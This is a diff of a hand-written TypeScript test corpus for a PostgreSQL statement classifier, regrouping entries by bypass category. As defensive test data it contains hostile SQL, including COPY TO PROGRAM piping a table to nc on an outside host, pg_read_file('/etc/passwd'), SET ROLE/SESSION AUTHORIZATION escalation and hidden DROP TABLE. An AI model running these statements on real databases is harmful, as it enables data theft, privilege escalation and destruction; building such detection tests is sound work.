@@ -1,36 +1,17 @@
 /**
  * Statements and what the classifier must say about them, written by hand (never produced by the
- * classifier). Kinds are compared as sets; commands, objects and functions as ordered lists
- * (objects and functions in order of first appearance in the text).
+ * classifier); corpus-entry.ts says how entries are compared. Three parts: the statement classes
+ * below, bypass attempts (corpus-bypass-attempts.ts: statements that change something while
+ * looking like a read or a session setting), and harmless statements that must keep harmless
+ * kinds (corpus-harmless.ts), which keep the classifier from staying safe by gating everything.
  */
-import type { StatementKind } from './classification.ts';
+import { BYPASS_ATTEMPTS } from './corpus-bypass-attempts.ts';
+import { attempt, type CorpusEntry, one } from './corpus-entry.ts';
+import { HARMLESS_STATEMENTS } from './corpus-harmless.ts';
 
-export interface ExpectedStatement {
-  /** Checked for multi-statement texts, where each statement's text is a slice of the whole. */
-  readonly text?: string;
-  readonly kinds: readonly StatementKind[];
-  readonly commands: readonly string[];
-  readonly objects?: readonly string[];
-  readonly functions?: readonly string[];
-  readonly writesWithoutWhere?: boolean;
-  readonly prepares?: string;
-  readonly executes?: string;
-  readonly deallocates?: string;
-  /** When set, unknownReason must match; when not, there must be none. */
-  readonly unknownReason?: RegExp;
-}
+export type { BypassClass, CorpusEntry, ExpectedStatement } from './corpus-entry.ts';
 
-export interface CorpusEntry {
-  readonly name: string;
-  readonly sql: string;
-  readonly statements: readonly ExpectedStatement[];
-}
-
-function one(name: string, sql: string, expected: ExpectedStatement): CorpusEntry {
-  return { name, sql, statements: [expected] };
-}
-
-export const CORPUS: readonly CorpusEntry[] = [
+const STATEMENT_CLASSES: readonly CorpusEntry[] = [
   // Plain reads, joins, subqueries.
   one('constant select', 'SELECT 1', { kinds: ['read'], commands: ['SELECT'] }),
   one('qualified table', 'SELECT id, total FROM public.orders WHERE id = 42', {
@@ -106,7 +87,7 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['SELECT'],
     objects: ['public.t'],
   }),
-  one('data-modifying CTE under a SELECT', 'WITH d AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM d', {
+  attempt('cte-write', 'data-modifying CTE under a SELECT', 'WITH d AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM d', {
     kinds: ['read', 'write'],
     commands: ['SELECT', 'DELETE'],
     objects: ['sessions'],
@@ -187,12 +168,12 @@ export const CORPUS: readonly CorpusEntry[] = [
   }),
 
   // Locking reads.
-  one('SELECT FOR UPDATE', 'SELECT * FROM orders WHERE id = 1 FOR UPDATE', {
+  attempt('locking-and-notify', 'SELECT FOR UPDATE', 'SELECT * FROM orders WHERE id = 1 FOR UPDATE', {
     kinds: ['read', 'write'],
     commands: ['SELECT FOR UPDATE'],
     objects: ['orders'],
   }),
-  one('locking subquery', 'SELECT * FROM (SELECT * FROM orders FOR SHARE) s', {
+  attempt('locking-and-notify', 'locking subquery', 'SELECT * FROM (SELECT * FROM orders FOR SHARE) s', {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     objects: ['orders'],
@@ -210,28 +191,28 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY (DELETE ... RETURNING) TO STDOUT', 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', {
+  attempt('cte-write', 'COPY (DELETE ... RETURNING) TO STDOUT', 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', {
     kinds: ['read', 'write'],
     commands: ['COPY', 'DELETE'],
     objects: ['orders'],
     writesWithoutWhere: true,
   }),
-  one('COPY FROM PROGRAM', "COPY orders FROM PROGRAM 'curl -s http://example.com/orders.csv'", {
+  attempt('file-and-large-object', 'COPY FROM PROGRAM', "COPY orders FROM PROGRAM 'curl -s http://example.com/orders.csv'", {
     kinds: ['write', 'dangerous'],
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY TO PROGRAM', "COPY orders TO PROGRAM 'nc example.com 1234'", {
+  attempt('file-and-large-object', 'COPY TO PROGRAM', "COPY orders TO PROGRAM 'nc example.com 1234'", {
     kinds: ['read', 'dangerous'],
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY FROM a server file', "COPY orders FROM '/var/lib/postgresql/orders.csv'", {
+  attempt('file-and-large-object', 'COPY FROM a server file', "COPY orders FROM '/var/lib/postgresql/orders.csv'", {
     kinds: ['write', 'dangerous'],
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY TO a server file', "COPY orders TO '/tmp/orders.csv'", {
+  attempt('file-and-large-object', 'COPY TO a server file', "COPY orders TO '/tmp/orders.csv'", {
     kinds: ['read', 'dangerous'],
     commands: ['COPY'],
     objects: ['orders'],
@@ -245,17 +226,22 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['orders'],
   }),
   one('EXPLAIN a write does not run it', 'EXPLAIN DELETE FROM orders', { kinds: ['read'], commands: ['EXPLAIN'], objects: ['orders'] }),
-  one('EXPLAIN ANALYZE a write runs it', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', {
+  attempt('explain-analyze', 'EXPLAIN ANALYZE a write runs it', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', {
     kinds: ['write'],
     commands: ['EXPLAIN', 'DELETE'],
     objects: ['orders'],
   }),
-  one('EXPLAIN (ANALYZE, BUFFERS) an UPDATE without WHERE', 'EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0', {
-    kinds: ['write'],
-    commands: ['EXPLAIN', 'UPDATE'],
-    objects: ['orders'],
-    writesWithoutWhere: true,
-  }),
+  attempt(
+    'explain-analyze',
+    'EXPLAIN (ANALYZE, BUFFERS) an UPDATE without WHERE',
+    'EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0',
+    {
+      kinds: ['write'],
+      commands: ['EXPLAIN', 'UPDATE'],
+      objects: ['orders'],
+      writesWithoutWhere: true,
+    },
+  ),
   one('EXPLAIN (ANALYZE false) a write', 'EXPLAIN (ANALYZE false) DELETE FROM orders', {
     kinds: ['read'],
     commands: ['EXPLAIN'],
@@ -263,7 +249,7 @@ export const CORPUS: readonly CorpusEntry[] = [
   }),
 
   // PREPARE / EXECUTE / DEALLOCATE.
-  one('PREPARE a write', 'PREPARE del (int) AS DELETE FROM orders WHERE id = $1', {
+  attempt('prepared-statement', 'PREPARE a write', 'PREPARE del (int) AS DELETE FROM orders WHERE id = $1', {
     kinds: ['write'],
     commands: ['PREPARE', 'DELETE'],
     objects: ['orders'],
@@ -275,8 +261,13 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['orders'],
     prepares: 'q',
   }),
-  one('EXECUTE', 'EXECUTE del(5)', { kinds: ['unknown'], commands: ['EXECUTE'], executes: 'del', unknownReason: /session resolves/ }),
-  one('EXECUTE with a dangerous argument', 'EXECUTE q(pg_terminate_backend(42))', {
+  attempt('prepared-statement', 'EXECUTE', 'EXECUTE del(5)', {
+    kinds: ['unknown'],
+    commands: ['EXECUTE'],
+    executes: 'del',
+    unknownReason: /session resolves/,
+  }),
+  attempt('prepared-statement', 'EXECUTE with a dangerous argument', 'EXECUTE q(pg_terminate_backend(42))', {
     kinds: ['dangerous', 'unknown'],
     commands: ['EXECUTE'],
     functions: ['pg_terminate_backend'],
@@ -287,36 +278,47 @@ export const CORPUS: readonly CorpusEntry[] = [
   one('DEALLOCATE ALL', 'DEALLOCATE ALL', { kinds: ['session'], commands: ['DEALLOCATE ALL'], deallocates: '*' }),
 
   // Code the classifier cannot see into, and functions it does not know.
-  one('DO block', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", { kinds: ['write', 'dangerous'], commands: ['DO'] }),
+  attempt('do-and-procedures', 'DO block', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", {
+    kinds: ['write', 'dangerous'],
+    commands: ['DO'],
+  }),
   one('CREATE FUNCTION', 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$', {
     kinds: ['ddl'],
     commands: ['CREATE FUNCTION'],
   }),
-  one('calling a function the classifier does not know', 'SELECT wipe()', {
+  attempt('side-effect-function', 'calling a function the classifier does not know', 'SELECT wipe()', {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     functions: ['wipe'],
   }),
-  one('a schema-qualified lookalike of a built-in is not the built-in', "SELECT public.lower('A')", {
+  attempt('quoting-and-case', 'a schema-qualified lookalike of a built-in is not the built-in', "SELECT public.lower('A')", {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     functions: ['public.lower'],
   }),
-  one('a quoted name is case-sensitive: "Lower" is not lower', 'SELECT "Lower"(name) FROM users', {
+  attempt('quoting-and-case', 'a quoted name is case-sensitive: "Lower" is not lower', 'SELECT "Lower"(name) FROM users', {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     objects: ['users'],
     functions: ['lower'],
   }),
-  one('nextval writes', "SELECT nextval('orders_id_seq')", { kinds: ['read', 'write'], commands: ['SELECT'], functions: ['nextval'] }),
-  one('advisory locks write', 'SELECT pg_advisory_lock(42)', {
+  attempt('side-effect-function', 'nextval writes', "SELECT nextval('orders_id_seq')", {
+    kinds: ['read', 'write'],
+    commands: ['SELECT'],
+    functions: ['nextval'],
+  }),
+  attempt('locking-and-notify', 'advisory locks write', 'SELECT pg_advisory_lock(42)', {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     functions: ['pg_advisory_lock'],
   }),
   one('pg_sleep is read-only', 'SELECT pg_sleep(1)', { kinds: ['read'], commands: ['SELECT'], functions: ['pg_sleep'] }),
-  one('CALL', 'CALL archive_orders(2024)', { kinds: ['write'], commands: ['CALL'], functions: ['archive_orders'] }),
-  one('an operator that is not built in', 'SELECT 1 === 2', { kinds: ['read', 'write'], commands: ['SELECT'] }),
+  attempt('do-and-procedures', 'CALL', 'CALL archive_orders(2024)', {
+    kinds: ['write'],
+    commands: ['CALL'],
+    functions: ['archive_orders'],
+  }),
+  attempt('side-effect-function', 'an operator that is not built in', 'SELECT 1 === 2', { kinds: ['read', 'write'], commands: ['SELECT'] }),
   one('CREATE FUNCTION in an untrusted language', "CREATE FUNCTION sh(cmd text) RETURNS text LANGUAGE plpython3u AS 'import os'", {
     kinds: ['ddl', 'dangerous'],
     commands: ['CREATE FUNCTION'],
@@ -448,27 +450,33 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['ALTER DEFAULT PRIVILEGES'],
   }),
   one('REASSIGN OWNED', 'REASSIGN OWNED BY old_admin TO new_admin', { kinds: ['ddl', 'privilege'], commands: ['REASSIGN OWNED'] }),
-  one('SET ROLE', 'SET ROLE admin', { kinds: ['privilege', 'session'], commands: ['SET'] }),
-  one('RESET ROLE', 'RESET ROLE', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
-  one('SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', { kinds: ['privilege', 'session'], commands: ['SET'] }),
-  one('set_config of role', "SELECT set_config('role', 'admin', false)", {
+  attempt('privilege-in-session', 'SET ROLE', 'SET ROLE admin', { kinds: ['privilege', 'session'], commands: ['SET'] }),
+  attempt('privilege-in-session', 'RESET ROLE', 'RESET ROLE', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
+  attempt('privilege-in-session', 'SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', {
+    kinds: ['privilege', 'session'],
+    commands: ['SET'],
+  }),
+  attempt('privilege-in-session', 'set_config of role', "SELECT set_config('role', 'admin', false)", {
     kinds: ['read', 'privilege', 'session'],
     commands: ['SELECT'],
     functions: ['set_config'],
   }),
-  one('set_config of search_path', "SELECT pg_catalog.set_config('search_path', '', false)", {
-    kinds: ['read', 'session'],
+  attempt('privilege-in-session', 'set_config of search_path', "SELECT pg_catalog.set_config('search_path', '', false)", {
+    kinds: ['read', 'privilege', 'session'],
     commands: ['SELECT'],
     functions: ['pg_catalog.set_config'],
   }),
 
   // Administration.
-  one('ALTER SYSTEM', 'ALTER SYSTEM SET max_connections = 500', { kinds: ['admin', 'dangerous'], commands: ['ALTER SYSTEM'] }),
-  one('VACUUM', 'VACUUM (FULL, ANALYZE) orders', { kinds: ['admin'], commands: ['VACUUM'], objects: ['orders'] }),
-  one('ANALYZE', 'ANALYZE billing.invoices', { kinds: ['admin'], commands: ['ANALYZE'], objects: ['billing.invoices'] }),
-  one('REINDEX', 'REINDEX TABLE orders', { kinds: ['admin'], commands: ['REINDEX'], objects: ['orders'] }),
-  one('CHECKPOINT', 'CHECKPOINT', { kinds: ['admin'], commands: ['CHECKPOINT'] }),
-  one('LOAD', "LOAD 'auto_explain'", { kinds: ['admin', 'dangerous'], commands: ['LOAD'] }),
+  attempt('maintenance', 'ALTER SYSTEM', 'ALTER SYSTEM SET max_connections = 500', {
+    kinds: ['admin', 'dangerous'],
+    commands: ['ALTER SYSTEM'],
+  }),
+  attempt('maintenance', 'VACUUM', 'VACUUM (FULL, ANALYZE) orders', { kinds: ['admin'], commands: ['VACUUM'], objects: ['orders'] }),
+  attempt('maintenance', 'ANALYZE', 'ANALYZE billing.invoices', { kinds: ['admin'], commands: ['ANALYZE'], objects: ['billing.invoices'] }),
+  attempt('maintenance', 'REINDEX', 'REINDEX TABLE orders', { kinds: ['admin'], commands: ['REINDEX'], objects: ['orders'] }),
+  attempt('maintenance', 'CHECKPOINT', 'CHECKPOINT', { kinds: ['admin'], commands: ['CHECKPOINT'] }),
+  attempt('maintenance', 'LOAD', "LOAD 'auto_explain'", { kinds: ['admin', 'dangerous'], commands: ['LOAD'] }),
 
   // Transactions.
   one('BEGIN', 'BEGIN', { kinds: ['transaction'], commands: ['BEGIN'] }),
@@ -478,21 +486,35 @@ export const CORPUS: readonly CorpusEntry[] = [
   one('SAVEPOINT', 'SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['SAVEPOINT'] }),
   one('RELEASE', 'RELEASE SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['RELEASE'] }),
   one('ROLLBACK TO', 'ROLLBACK TO SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['ROLLBACK'] }),
-  one('PREPARE TRANSACTION', "PREPARE TRANSACTION 'tx1'", { kinds: ['transaction', 'admin'], commands: ['PREPARE TRANSACTION'] }),
+  attempt('maintenance', 'PREPARE TRANSACTION', "PREPARE TRANSACTION 'tx1'", {
+    kinds: ['transaction', 'admin'],
+    commands: ['PREPARE TRANSACTION'],
+  }),
   one('SET TRANSACTION', 'SET TRANSACTION READ ONLY', { kinds: ['transaction'], commands: ['SET'] }),
-  one('LOCK', 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', { kinds: ['write'], commands: ['LOCK TABLE'], objects: ['orders'] }),
+  attempt('locking-and-notify', 'LOCK', 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', {
+    kinds: ['write'],
+    commands: ['LOCK TABLE'],
+    objects: ['orders'],
+  }),
 
   // Session.
-  one('SET', 'SET search_path TO app, public', { kinds: ['session'], commands: ['SET'] }),
+  attempt('privilege-in-session', 'SET search_path', 'SET search_path TO app, public', {
+    kinds: ['privilege', 'session'],
+    commands: ['SET'],
+  }),
   one('SET LOCAL', "SET LOCAL statement_timeout = '5s'", { kinds: ['session'], commands: ['SET'] }),
   one('SHOW', 'SHOW search_path', { kinds: ['read'], commands: ['SHOW'] }),
   one('RESET', 'RESET statement_timeout', { kinds: ['session'], commands: ['RESET'] }),
-  one('RESET ALL', 'RESET ALL', { kinds: ['session'], commands: ['RESET'] }),
-  one('DISCARD ALL', 'DISCARD ALL', { kinds: ['privilege', 'session'], commands: ['DISCARD ALL'], deallocates: '*' }),
+  attempt('privilege-in-session', 'RESET ALL resets search_path', 'RESET ALL', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
+  attempt('privilege-in-session', 'DISCARD ALL', 'DISCARD ALL', {
+    kinds: ['privilege', 'session'],
+    commands: ['DISCARD ALL'],
+    deallocates: '*',
+  }),
   one('DISCARD PLANS', 'DISCARD PLANS', { kinds: ['session'], commands: ['DISCARD PLANS'] }),
   one('LISTEN', 'LISTEN jobs', { kinds: ['session'], commands: ['LISTEN'] }),
-  one('NOTIFY', "NOTIFY jobs, 'run'", { kinds: ['write', 'session'], commands: ['NOTIFY'] }),
-  one('DECLARE a locking cursor', 'DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE', {
+  attempt('locking-and-notify', 'NOTIFY', "NOTIFY jobs, 'run'", { kinds: ['write', 'session'], commands: ['NOTIFY'] }),
+  attempt('locking-and-notify', 'DECLARE a locking cursor', 'DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE', {
     kinds: ['read', 'write'],
     commands: ['DECLARE CURSOR'],
     objects: ['orders'],
@@ -501,33 +523,33 @@ export const CORPUS: readonly CorpusEntry[] = [
   one('CLOSE', 'CLOSE c', { kinds: ['session'], commands: ['CLOSE CURSOR'] }),
 
   // Dangerous functions.
-  one('pg_terminate_backend', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", {
+  attempt('side-effect-function', 'pg_terminate_backend', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     objects: ['pg_stat_activity'],
     functions: ['pg_terminate_backend'],
   }),
-  one('lo_export', "SELECT lo_export(16409, '/tmp/dump')", {
+  attempt('file-and-large-object', 'lo_export', "SELECT lo_export(16409, '/tmp/dump')", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     functions: ['lo_export'],
   }),
-  one('pg_read_file', "SELECT pg_read_file('/etc/passwd')", {
+  attempt('file-and-large-object', 'pg_read_file', "SELECT pg_read_file('/etc/passwd')", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     functions: ['pg_read_file'],
   }),
-  one('dblink', "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)", {
+  attempt('side-effect-function', 'dblink', "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     functions: ['dblink'],
   }),
-  one('dblink_exec in its extension schema', "SELECT ext.dblink_exec('conn', 'DROP TABLE orders')", {
+  attempt('side-effect-function', 'dblink_exec in its extension schema', "SELECT ext.dblink_exec('conn', 'DROP TABLE orders')", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     functions: ['ext.dblink_exec'],
   }),
-  one('a table read through a string', "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", {
+  attempt('side-effect-function', 'a table read through a string', "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
     functions: ['query_to_xml'],
@@ -542,6 +564,7 @@ export const CORPUS: readonly CorpusEntry[] = [
   // Several statements in one text.
   {
     name: 'two statements',
+    bypass: 'multi-statement',
     sql: 'SELECT 1; DELETE FROM orders',
     statements: [
       { text: 'SELECT 1', kinds: ['read'], commands: ['SELECT'] },
@@ -558,6 +581,7 @@ export const CORPUS: readonly CorpusEntry[] = [
   },
   {
     name: 'a transaction in one Query message',
+    bypass: 'multi-statement',
     sql: 'BEGIN; SET ROLE admin; DROP TABLE orders; COMMIT',
     statements: [
       { text: 'BEGIN', kinds: ['transaction'], commands: ['BEGIN'] },
@@ -572,3 +596,5 @@ export const CORPUS: readonly CorpusEntry[] = [
     statements: [{ text: 'SELECT 1; SELEC 2', kinds: ['unknown'], commands: [], unknownReason: /syntax error/ }],
   },
 ];
+
+export const CORPUS: readonly CorpusEntry[] = [...STATEMENT_CLASSES, ...BYPASS_ATTEMPTS, ...HARMLESS_STATEMENTS];
